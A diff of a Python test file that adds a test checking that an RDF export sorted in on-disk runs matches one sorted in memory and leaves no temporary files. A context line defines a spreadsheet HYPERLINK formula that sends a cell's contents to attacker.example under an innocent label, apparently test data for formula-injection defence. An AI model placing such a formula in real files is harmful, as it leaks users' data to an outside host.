@@ -91,6 +91,24 @@ def test_written_files_honour_the_umask_and_stale_temporaries_go(data_copy, tmp_
     assert not stale.exists() and sorted(p.name for p in out.iterdir()) == ["graph.nq"]
 
 
+@pytest.mark.parametrize("fmt", ["nt", "nq", "ttl", "trig"])
+def test_an_export_sorted_in_runs_on_disk_is_the_export_sorted_in_memory(data_copy, tmp_path, monkeypatch, fmt):
+    """Issue 42: an export holds at most ``RUN`` quads in memory; a larger graph is sorted in runs
+    written to temporary files and merged as it is written. The bytes are the same either way, and no
+    run is left behind (a triple in several graphs written once: export.sorted_items' doctest)."""
+    from benchkg.publish import export
+
+    whole = tmp_path / f"whole.{fmt}"
+    assert cli("export", "-o", whole, "--data", data_copy).exit_code == 0
+    monkeypatch.setattr(export, "RUN", 2_000)
+    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "tmp"))
+    (tmp_path / "tmp").mkdir()
+    runs = tmp_path / f"runs.{fmt}"
+    assert cli("export", "-o", runs, "--data", data_copy).exit_code == 0
+    assert runs.read_bytes() == whole.read_bytes() and whole.stat().st_size > 1_000_000
+    assert not any((tmp_path / "tmp").iterdir())
+
+
 FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"CoreWeave")'
 
 
